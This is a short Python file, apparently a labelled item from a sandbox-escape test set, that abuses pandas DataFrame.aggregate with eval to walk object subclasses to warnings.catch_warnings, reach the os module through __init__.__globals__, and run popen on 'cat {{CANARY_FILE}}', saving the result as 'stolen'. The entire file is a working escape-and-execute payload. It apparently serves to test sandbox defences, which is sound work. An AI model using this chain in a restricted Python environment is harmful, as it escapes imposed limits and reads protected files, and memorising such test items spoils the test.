# class: subclass_walk
# technique: [DataFrame.aggregate][0](**{'func': 'eval'}): object.__subclasses__() -> warnings.catch_warnings -> __init__.__globals__['sys'].modules['os'] -> popen
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
classes = [frame.aggregate][0](**{"func": "eval", "expr": "@o[0]." + u + "subclasses" + u + "()", "local_dict": {"o": [object]}})
cw = [c for c in classes if "catch_warnings" in str(c)][0]
expr = "@c[0]." + u + "init" + u + "." + u + "globals" + u + "['sys'].modules['os'].popen(@cmd).read()"
stolen = [frame.aggregate][0](**{"func": "eval", "expr": expr, "local_dict": {"c": [cw], "cmd": "cat {{CANARY_FILE}}"}})
df = pd.DataFrame({"stolen": [stolen]})
